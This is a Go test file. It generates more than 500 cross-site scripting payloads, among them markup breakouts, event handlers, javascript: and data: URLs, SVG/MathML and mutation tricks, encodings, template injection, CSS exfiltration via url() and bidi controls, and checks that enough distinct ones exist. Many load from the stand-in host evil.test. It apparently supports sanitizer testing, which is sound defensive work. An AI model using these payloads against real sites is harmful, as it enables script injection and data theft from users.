package main

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// A payload is a text that tries to become more than a text. Its script calls
// fire with the payload's number, and its requests go to evilHost with the
// number as their path, so that a test sees whose they are.
type payload struct {
	kind string
	text string
}

const evilHost = "evil.test"

// minPayloads is how many payloads there are at least of each kind, and of all
// kinds together, that differ in more than case, space and numbers.
const (
	minPayloadsOfAKind = 20
	minPayloads        = 500
)

// payloads returns all payloads; the number of one is its index.
func payloads() []payload {
	var all []payload
	for _, kind := range []struct {
		name  string
		texts []string
	}{
		{"markup", markupPayloads()},
		{"attributes", attributePayloads()},
		{"URLs", urlPayloads()},
		{"SVG", svgPayloads()},
		{"MathML", mathPayloads()},
		{"mutation", mutationPayloads()},
		{"encoding", encodingPayloads()},
		{"emoji", emojiPayloads()},
		{"template", templatePayloads()},
		{"CSS", cssPayloads()},
		{"bidi", bidiPayloads()},
	} {
		for _, text := range kind.texts {
			number := strconv.Itoa(len(all))
			text = strings.NewReplacer("FIRE", "fire("+number+")", "EVIL", "//"+evilHost+"/"+number).Replace(text)
			all = append(all, payload{kind.name, text})
		}
	}
	return all
}

// each puts every core into every shape in place of %s.
func each(shapes, cores []string) []string {
	var texts []string
	for _, shape := range shapes {
		for _, core := range cores {
			texts = append(texts, strings.ReplaceAll(shape, "%s", core))
		}
	}
	return texts
}

// cores run a script as soon as they are parsed.
var cores = []string{
	"<img src=x: onerror=FIRE>",
	"<script>FIRE</script>",
	"<svg onload=FIRE>",
	"<iframe src=javascript:FIRE></iframe>",
	"<img src=EVIL>",
}

func markupPayloads() []string {
	breakOuts := []string{
		"%s",
		`">%s`,
		"'>%s",
		"</textarea>%s",
		"</title>%s",
		"--><!-- -->%s",
		"]]>%s",
		"</bdi></h1></div></article></main>%s",
	}
	return append(each(breakOuts, cores),
		"<video><source onerror=FIRE></video>",
		"<video poster=EVIL></video>",
		"<video src=EVIL autoplay></video>",
		"<audio src=x: onerror=FIRE></audio>",
		"<body onload=FIRE>",
		"<body background=EVIL>",
		"<table background=EVIL><td>x</table>",
		"<input type=image src=EVIL>",
		"<input autofocus onfocus=FIRE>",
		"<textarea autofocus onfocus=FIRE></textarea>",
		"<details open ontoggle=FIRE>x</details>",
		"<marquee onstart=FIRE>x</marquee>",
		"<object data=javascript:FIRE></object>",
		"<object data=EVIL></object>",
		"<embed src=EVIL>",
		"<iframe srcdoc='&lt;script>parent.FIRE&lt;/script>'></iframe>",
		"<link rel=stylesheet href=EVIL>",
		"<meta http-equiv=refresh content='0;url=EVIL'>",
		"<base href=EVIL>",
		"<form action=javascript:FIRE><button onclick=FIRE>x</button></form>",
		"<button formaction=javascript:FIRE onclick=FIRE>x</button>",
		"<picture><source srcset=EVIL><img src=x:></picture>",
		"<img srcset='EVIL 1x'>",
		"<template><img src=x: onerror=FIRE></template>",
		"<xmp><img src=x: onerror=FIRE></xmp>",
		"<plaintext>",
		"<frameset onload=FIRE><frame src=EVIL></frameset>",
		"<dialog open onclick=FIRE>x</dialog>",
		"<script src=EVIL></script>",
		"<script type=module>FIRE</script>",
		"<scr<script>ipt>FIRE</scr</script>ipt>",
		"<<script>FIRE//<</script>",
		"<!--><img src=x: onerror=FIRE>-->",
		"<![CDATA[><img src=x: onerror=FIRE>]]>",
		"<?xml ><img src=x: onerror=FIRE>",
		"<x-y onclick=FIRE>x</x-y>",
	)
}

func attributePayloads() []string {
	var texts []string
	for _, event := range strings.Fields(`
		onerror onclick ondblclick onmouseover onmouseenter onmousedown onpointerenter onpointerdown onfocus onfocusin
		onblur oninput onchange onsubmit onkeydown onwheel oncopy onpaste ondrag ondrop onscroll ontouchstart
		onanimationstart ontransitionend onbeforetoggle oncontextmenu onauxclick onselectstart`) {
		texts = append(texts, "<p tabindex=1 "+event+"=FIRE>x</p>", `x" `+event+`="FIRE" y="`)
	}
	return append(texts,
		"<img/src=x:/onerror=FIRE>",
		"<img\tsrc=x:\nonerror\r=\fFIRE>",
		"<IMG SRC=x: ONERROR=FIRE>",
		"<img src=x: onerror='FIRE'x=y>",
		"<img src=x: onerror=\"FIRE\"\">",
		"<img src=x: 'onerror=FIRE>",
		"<img alt='>' src=x: onerror=FIRE>",
		"<img src=x: onerror=&#102;ire(0)||FIRE>",
		"<a href=https://example.com onclick=FIRE>x</a>",
		"<a href='https://example.com\" onclick=\"FIRE'>x</a>",
		"x' onmouseover='FIRE' y='",
		"x` onmouseover=`FIRE",
		"https://example.com/\"onmouseover=\"FIRE",
		"https://example.com/'onmouseover='FIRE",
		"@demo\" onclick=\"FIRE",
		"#tag\" onclick=\"FIRE",
	)
}

func urlPayloads() []string {
	addresses := []string{
		"javascript:FIRE",
		"JaVaScRiPt:FIRE",
		"java\tscript:FIRE",
		"java&#10;script:FIRE",
		"&#106;avascript:FIRE",
		"&#x6A&#x61vascript:FIRE",
		"javascript&colon;FIRE",
		"\x01javascript:FIRE",
		"&#1;javascript:FIRE",
		" javascript:FIRE",
		"javascript://example.com/%0aFIRE",
		"javascript:/*https://example.com*/FIRE",
		"data:text/html,<script>parent.FIRE</script>",
		"data:text/html;base64," + base64.StdEncoding.EncodeToString([]byte("<script>top.fire(0)</script>")) + "#FIRE",
		"vbscript:FIRE",
		"feed:javascript:FIRE",
		"view-source:javascript:FIRE",
		"blob:https://evil.test/FIRE",
		"file:///etc/passwd?FIRE",
		"jar:https:EVIL!/FIRE",
		"intent:EVIL#Intent;S.x=FIRE;end",
		"https://example.com@evil.test/<FIRE>",
	}
	return each([]string{"<a href=\"%s\">x</a>", "%s", "<iframe src='%s'></iframe>"}, addresses)
}

func svgPayloads() []string {
	inner := []string{
		"<script>FIRE</script>",
		"<script href='data:text/javascript,FIRE'></script>",
		"<script xlink:href='data:text/javascript,FIRE'></script>",
		"<animate onbegin=FIRE attributeName=x dur=1s>",
		"<set onbegin=FIRE attributeName=x to=1>",
		"<animatetransform onbegin=FIRE attributeName=transform dur=1s>",
		"<a xlink:href=javascript:FIRE><text>x</text></a>",
		"<a href=javascript:FIRE><text>x</text></a>",
		"<a><animate attributeName=href values=javascript:FIRE /><text>x</text></a>",
		"<image href=EVIL />",
		"<image xlink:href=EVIL />",
		"<feImage href=EVIL />",
		"<use href='EVIL#x' />",
		"<use href='data:image/svg+xml,<svg id=x onload=FIRE></svg>#x' />",
		"<foreignObject><iframe src=javascript:FIRE></iframe></foreignObject>",
		"<foreignObject><img src=x: onerror=FIRE></foreignObject>",
		"<style>@import 'EVIL';</style>",
		"<style>*{background:url(EVIL)}</style>",
		"<title><img src=x: onerror=FIRE></title>",
		"<desc><img src=x: onerror=FIRE></desc>",
		"<text onclick=FIRE>x</text>",
		"<g onload=FIRE></g>",
	}
	return each([]string{"<svg>%s</svg>", "</p><svg/onload=FIRE>%s"}, inner)
}

func mathPayloads() []string {
	var texts []string
	const insides = "mtext mi mo mn ms annotation-xml semantics mrow mglyph malignmark menclose"
	for _, inside := range strings.Fields(insides) {
		for _, core := range cores[:2] {
			texts = append(texts, fmt.Sprintf("<math><%s>%s</%[1]s></math>", inside, core))
		}
	}
	return append(texts,
		"<math href=javascript:FIRE>x</math>",
		"<math><mi xlink:href=javascript:FIRE>x</mi></math>",
		"<math><maction actiontype='statusline#EVIL' xlink:href=javascript:FIRE>x</maction></math>",
		"<math><annotation-xml encoding='text/html'><img src=x: onerror=FIRE></annotation-xml></math>",
		"<math><annotation-xml encoding='application/xhtml+xml'><iframe src=javascript:FIRE></annotation-xml></math>",
		"<math><mglyph src=EVIL></math>",
		"<math onclick=FIRE><mi>x</mi></math>",
		"<math><mtext></math><img src=x: onerror=FIRE>",
		"<math><style><img src=x: onerror=FIRE></style></math>",
		"<math><!--</math>--><img src=x: onerror=FIRE>",
	)
}

// mutationPayloads change when they are parsed, written and parsed again.
func mutationPayloads() []string {
	var texts []string
	for _, outer := range []string{"math><mtext", "math><mi", "svg><title", "svg><desc", "svg><foreignObject"} {
		for _, raw := range []string{"style", "xmp", "noscript", "iframe", "noembed", "noframes", "title", "textarea"} {
			const shape = "<%s><%s><!--</%[2]s><img title=\"--><img src=x: onerror=FIRE>\">"
			texts = append(texts, fmt.Sprintf(shape, outer, raw))
		}
	}
	return append(texts,
		"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x: onerror=FIRE&gt;\">",
		"<svg></p><style><a id=\"</style><img src=x: onerror=FIRE>\">",
		"<noscript><p title=\"</noscript><img src=x: onerror=FIRE>\">",
		"<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=FIRE>",
		"<listing>&lt;img src=x: onerror=FIRE&gt;</listing>",
		"<select><template><img src=x: onerror=FIRE></template></select>",
		"<table><a href=javascript:FIRE><td>x</table>",
		"<a><table><a href='javascript:FIRE'>x",
		"<p><svg><p><style><!--</style><img src=x: onerror=FIRE>-->",
		"<img alt=\"``onerror=FIRE\" src=x:>",
		"<pre>\n\n<img src=x: onerror=FIRE></pre>",
		"<b><i></b><img src=x: onerror=FIRE></i>",
		"<ul><li><p><ul><li></p><script>FIRE</script>",
		"<blockquote><p></blockquote><img src=x: onerror=FIRE>",
	)
}

func encodingPayloads() []string {
	encoders := []func(string) string{
		func(s string) string { return strings.NewReplacer("<", "&lt;", ">", "&gt;").Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "&amp;lt;", ">", "&amp;gt;").Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "&#60;", ">", "&#62;").Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "&#x3c", ">", "&#X3E").Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "&LT;", ">", "&GT;").Replace(s) },
		url.PathEscape,
		func(s string) string { return strings.NewReplacer("<", `\u003c`, ">", `\u003e`).Replace(s) },
		func(s string) string { return strings.NewReplacer("<", `\x3c`, ">", `\x3e`).Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "+ADw-", ">", "+AD4-").Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "＜", ">", "＞").Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "<\u200b", " ", "\u00a0").Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "\ufeff<", " ", "\u2028").Replace(s) },
	}
	var texts []string
	for _, encode := range encoders {
		for _, core := range cores {
			texts = append(texts, encode(core))
		}
	}
	return texts
}

func emojiPayloads() []string {
	return each([]string{
		":spore:%s:spore:",
		"<img alt=\":spore:\" title='%s' src=x: onerror=FIRE>",
		":spore%s:",
		"<a title=\":spore:\" href=javascript:FIRE>:spore:</a>%s",
		"<b>:spore:</b><!-- :spore: -->%s",
		":%s:",
		"<script>:spore:</script>%s :spore:",
	}, cores)
}

func templatePayloads() []string {
	return each([]string{"%s", "<p>%s</p>", `"%s"`}, []string{
		"{{constructor.constructor('FIRE')()}}",
		"{{7*191}}<img src=x: onerror=FIRE>",
		"${FIRE}",
		"${7*191}<script>FIRE</script>",
		"<%= 7*191 %><svg onload=FIRE>",
		"#{7*191}<img src=EVIL>",
		"{% if 1 %}<script>FIRE</script>{% end %}",
		"{{.L.T \"Save\"}}<img src=x: onerror=FIRE>",
		"{{template \"card\" .}}<img src=x: onerror=FIRE>",
		"[[7*191]]<img src=x: onerror=FIRE>",
		"`${FIRE}`",
		"';FIRE;'",
		"\\';FIRE;//",
		"</script><script>FIRE</script>",
	})
}

func cssPayloads() []string {
	var texts []string
	for _, property := range strings.Fields(`
		background background-image list-style-image cursor border-image-source mask-image -webkit-mask-image filter
		clip-path shape-outside content`) {
		texts = append(texts,
			"<p style=\""+property+":url(EVIL)\">x</p>",
			"<style>body *{"+property+":url('EVIL')}</style>",
		)
	}
	return append(texts,
		"<style>@import 'EVIL';</style>",
		"<style>@font-face{font-family:x;src:url(EVIL)}p{font-family:x}</style>",
		"<style>input[name=base][value^=a]{background:url(EVIL)}</style>",
		"<link rel=stylesheet href='data:text/css,*{background:url(EVIL)}'>",
		"<div style='position:fixed;inset:0;background:url(EVIL)'>x</div>",
		"<p style='width:expression(FIRE)'>x</p>",
		"<p style='-moz-binding:url(EVIL)'>x</p>",
		"<p style='background:\\75rl(EVIL)'>x</p>",
		"<p style=\"animation:x\" onanimationstart=FIRE>x</p><style>@keyframes x{}</style>",
		"<p class=\"skip card savebar button\" id=content>x<img src=EVIL></p>",
		"<font face='x' color='red' style='x:url(EVIL)'>x</font><img src=EVIL>",
		"</style><img src=x: onerror=FIRE>",
	)
}

func bidiPayloads() []string {
	var texts []string
	for _, control := range []rune{
		'\u061c', '\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e',
		'\u2066', '\u2067', '\u2068', '\u2069',
	} {
		c := string(control)
		texts = append(texts,
			c+cores[0]+c,
			"<"+c+"img src=x: onerror=FIRE>",
			"<b>"+strings.Repeat(c, 9)+"</b>"+cores[1],
		)
	}
	return texts
}

// unlike is what does not make a payload another one.
var unlike = regexp.MustCompile(`\s+|\d+`)

// TestPayloads counts the payloads.
func TestPayloads(t *testing.T) {
	distinct := map[string]bool{}
	kinds := map[string]int{}
	for _, p := range payloads() {
		key := unlike.ReplaceAllString(strings.ToLower(p.text), "")
		if !distinct[key] {
			distinct[key] = true
			kinds[p.kind]++
		}
	}
	for kind, n := range kinds {
		assert.GreaterOrEqual(t, n, minPayloadsOfAKind, kind)
	}
	assert.GreaterOrEqual(t, len(distinct), minPayloads)
	t.Log(len(distinct), kinds)
}
